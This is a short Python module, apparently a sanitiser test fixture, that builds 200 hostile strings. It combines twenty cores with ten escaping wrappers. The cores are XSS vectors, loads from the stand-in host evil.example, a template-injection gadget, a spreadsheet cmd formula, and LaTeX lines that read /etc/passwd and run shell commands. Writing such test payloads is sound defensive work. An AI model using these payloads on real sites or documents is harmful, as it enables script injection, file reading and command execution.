"""Two hundred hostile texts: twenty attempts to run code or load something, each in ten wrappings."""

CORES = (
    "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<body onload=window.pwned=1>",
    "<a href='javascript:window.pwned=1'>x</a>", "<details open ontoggle=window.pwned=1>",
    "<style>@import'https://evil.example/x.css';</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input autofocus onfocus=window.pwned=1>", "<object data=https://evil.example/x>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.pwned=1>", "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>", "onmouseover=window.pwned=1 x=",
    "{{constructor.constructor('window.pwned=1')()}}",
    "=cmd|'/c calc'!A1", "\\input{/etc/passwd}\\write18{id}",
)  # fmt: skip
WRAPPINGS = (
    "{}", '"{}"', "'>{}", '">{}', "</title>{}", "</td></tr></table>{}", "--><!-- {}", "</textarea></pre>{}",
    "\u202e{}\u202c\x00\u200b", "a\r\n{}\tb",
)  # fmt: skip
PAYLOADS = tuple(wrapping.format(core) for core in CORES for wrapping in WRAPPINGS)
